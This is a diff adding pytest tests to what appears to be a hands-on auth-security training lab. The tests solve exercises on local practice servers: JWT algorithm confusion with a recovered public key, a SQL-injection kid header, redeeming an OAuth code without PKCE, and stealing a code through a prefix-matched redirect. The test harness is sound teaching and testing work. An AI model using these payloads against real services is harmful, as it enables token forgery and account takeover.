@@ -135,6 +135,13 @@ def forge(lab: str, url: str, folder: Path, run: Exercise) -> str:
         command = hint(EXERCISES[lab], 3, url).split("Write the key as PEM: ", 1)[1]
         subprocess.run(command, shell=True, cwd=folder, env=ENV, check=True, timeout=30)
         return authcli(*become, "--alg", "HS256", "--secret-file", str(folder / "public.pem"))
+    if lab == "alg-confusion-no-key":
+        from authcli.walkthroughs.lab.exercises import EXERCISES, hint
+
+        command = hint(EXERCISES[lab], 3, url).split("(gmpy2 makes it seconds): ", 1)[1]
+        subprocess.run(command, shell=True, cwd=folder, env={**ENV, "T1": token, "T2": my_token(url)},
+                       check=True, timeout=300)  # a gcd over 33-million-bit numbers: seconds, minutes when loaded
+        return authcli(*become, "--alg", "HS256", "--secret-file", str(folder / "public.pem"))
     if lab == "kid-sql":
         return authcli(*become, "--header", "kid=x' UNION SELECT 'known-secret' --", "--secret", "known-secret")
     extra = {"alg-none": ["--alg", "none"], "no-verify": [], "jwk-header": ["--embed-jwk"],
@@ -182,6 +189,37 @@ def test_a_student_solves_it(lab, tmp_path):
     assert f"solved: {lab}" in out and flag in out
     assert "The request that did it" in out and f"Authorization: Bearer {forged}" in out
     assert "The same request to the hardened server" in out and "\n  401 " in out
+
+
+def test_alg_confusion_no_key_solved_with_a_recovered_key_and_nothing_else(tmp_path):
+    """Two of the run's tokens, authcli's recovery as the hint writes it, then HS256 with that PEM.
+    An HS256 token signed with any other public key's PEM is refused, and the key recovered in one
+    run is not the next run's."""
+    from conftest import require_gmpy2
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+
+    require_gmpy2()
+    lab = "alg-confusion-no-key"
+    other = rsa.generate_private_key(public_exponent=65537, key_size=1024).public_key().public_bytes(
+        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    (tmp_path / "other.pem").write_bytes(other)
+    with Exercise(lab, tmp_path, timeout=60) as first:
+        assert requests.get(first.url + "/.well-known/jwks.json", timeout=10).status_code == 404
+        wrong = authcli("tamper", my_token(first.url), "--set", 'sub="1"', "--alg", "HS256",
+                        "--secret-file", str(tmp_path / "other.pem"))
+        assert admin(first.url, wrong).status_code == 401
+        forged = forge(lab, first.url, tmp_path, first)
+        answer = admin(first.url, forged)
+        assert answer.status_code == 200, answer.text
+        code, out = first.finish()
+    assert code == 0, out
+    assert f"solved: {lab}" in out and "The same request to the hardened server" in out and "\n  401 " in out
+    with Exercise(lab, tmp_path) as second:
+        assert admin(second.url, forged).status_code == 401
+        second.type("q")
+        code, out = second.finish()
+    assert code == 1 and "solved:" not in out
 
 
 def test_kid_sql_signed_with_authcli_sign_and_not_by_a_plain_kid_or_another_run(tmp_path):
@@ -386,7 +424,8 @@ def test_the_list_marks_exactly_the_labs_with_an_exercise():
 
     listed = cli("lab", "--list").stdout.splitlines()
     marked = {line.split()[0] for line in listed if line.split()[2] == "exercise"}
-    assert marked == set(EXERCISES) == set(LABS + SESSION_LABS + ["jku-header", "no-rate-limit", "user-enum", "fixation"])
+    assert marked == set(EXERCISES) == set(LABS + SESSION_LABS + ["jku-header", "no-rate-limit", "user-enum", "fixation",
+                                                                 "alg-confusion-no-key", "no-pkce", "redirect-prefix"])
     for exercise in EXERCISES.values():  # graded: each hint says more; every fact cites a source
         assert len(exercise.hints) >= 3 and any("[^" in h for h in exercise.hints)
 
@@ -550,3 +589,99 @@ def test_only_an_id_of_the_labs_shape_is_planted(value):
 
     assert planted(json.dumps({"sessionId": value}).encode()) == (
         value if isinstance(value, str) and SESSION_ID.fullmatch(value) else None)
+
+
+# The OAuth labs: the goal is tokens for user 1 from /token; the exercise plays user 1 and the app.
+
+def oauth_handed(run: Exercise) -> tuple[str, str]:
+    """The app's client_id and (no-pkce) the logged redirect's code."""
+    line = run.until("client_id")
+    words = line.split(": ", 1)[1].split()
+    code = re.search(r"[?&]code=([^&\s]+)", words[1]).group(1) if len(words) > 1 else ""
+    return words[0], code
+
+
+def redeem(url: str, client: str, code: str, redirect: str, **extra: str) -> requests.Response:
+    return requests.post(url + "/token", data={"grant_type": "authorization_code", "code": code,
+                                               "client_id": client, "redirect_uri": redirect, **extra}, timeout=10)
+
+
+def sub_of(answer: requests.Response) -> str:
+    """Whom the access token is for, as `authcli decode` shows it."""
+    return json.loads(authcli("decode", answer.json()["access_token"], "-f", "json"))["payload"]["sub"]
+
+
+def test_a_student_redeems_a_logged_code_without_pkce(tmp_path):
+    from authcli.walkthroughs.lab.practice_oauth import APP
+
+    with Exercise("no-pkce", tmp_path) as run:
+        client, code = oauth_handed(run)
+        answer = redeem(run.url, client, code, APP)
+        assert answer.status_code == 200 and sub_of(answer) == "1", answer.text
+        code_, out = run.finish()
+    assert code_ == 0, out
+    assert "solved: no-pkce" in out and "The same request to the hardened server" in out
+    assert "code_verifier is required" in out
+
+
+def test_no_pkce_not_by_a_wrong_code_a_second_use_or_another_run(tmp_path):
+    from authcli.walkthroughs.lab.practice_oauth import APP
+
+    with Exercise("no-pkce", tmp_path) as first:
+        client, code = oauth_handed(first)
+        assert redeem(first.url, client, code + "x", APP).status_code == 400
+        assert redeem(first.url, "nobody", code, APP).status_code in (400, 401)
+        assert redeem(first.url, client, code, APP).status_code == 200
+        assert first.finish()[0] == 0
+    with Exercise("no-pkce", tmp_path) as second:
+        assert redeem(second.url, client, code, APP).status_code in (400, 401)
+        second.type("q")
+        code_, out = second.finish()
+    assert code_ == 1 and "solved:" not in out
+
+
+def send_link(url: str, client: str, redirect: str, challenge: str) -> requests.Response:
+    from urllib.parse import urlencode
+
+    query = urlencode({"response_type": "code", "client_id": client, "scope": "openid", "state": "x",
+                       "redirect_uri": redirect, "code_challenge": challenge, "code_challenge_method": "S256"})
+    return requests.post(url + "/victim", json={"link": f"{url}/authorize?{query}"}, timeout=10)
+
+
+def test_a_student_steals_a_code_through_a_prefix_matched_redirect(tmp_path):
+    from authcli.tokens.pkce import make_verifier, s256
+    from authcli.walkthroughs.lab.practice_oauth import APP
+
+    evil, verifier = APP + "/../../attacker", make_verifier()
+    with Exercise("redirect-prefix", tmp_path) as run:
+        client, _ = oauth_handed(run)
+        assert send_link(run.url, client, evil, s256(verifier)).status_code == 202
+        went = run.until("went to your page")
+        code = re.search(r"[?&]code=([^&\s]+)", went).group(1)
+        answer = redeem(run.url, client, code, evil, code_verifier=verifier)
+        assert answer.status_code == 200 and sub_of(answer) == "1", answer.text
+        code_, out = run.finish()
+    assert code_ == 0, out
+    assert "solved: redirect-prefix" in out and "User 1 opening your last link" in out and "\n  400 " in out
+
+
+def test_redirect_prefix_not_by_the_apps_own_redirect_or_a_bad_link(tmp_path):
+    """A link with the app's exact redirect URI sends the code to the app, not to the student; a
+    link elsewhere is not opened; a body without a link is a 4xx."""
+    from authcli.tokens.pkce import make_verifier, s256
+    from authcli.walkthroughs.lab.practice_oauth import APP
+
+    verifier = make_verifier()
+    with Exercise("redirect-prefix", tmp_path) as run:
+        client, _ = oauth_handed(run)
+        assert send_link(run.url, client, APP, s256(verifier)).status_code == 202
+        assert "the code is the app's, not yours" in run.until("went back to the app")
+        assert "code=" not in run.seen[-1]
+        assert requests.post(run.url + "/victim", json={"link": "http://example.com/authorize?x=1"},
+                             timeout=10).status_code == 202
+        assert "not followed" in run.until("not followed")
+        assert requests.post(run.url + "/victim", json={"url": 1}, timeout=10).status_code == 400
+        assert requests.post(run.url + "/victim", data="x", timeout=10).status_code == 415
+        run.type("q")
+        code_, out = run.finish()
+    assert code_ == 1 and "solved:" not in out
